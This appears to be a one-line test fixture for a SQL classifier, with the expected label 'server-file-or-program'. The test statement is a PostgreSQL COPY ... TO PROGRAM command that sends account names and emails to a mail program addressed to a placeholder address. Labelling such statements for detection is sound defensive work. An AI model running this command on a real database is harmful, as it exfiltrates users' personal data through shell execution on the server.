-- expect: server-file-or-program
COPY (SELECT name, email FROM accounts) TO PROGRAM 'mail somebody@example.org';
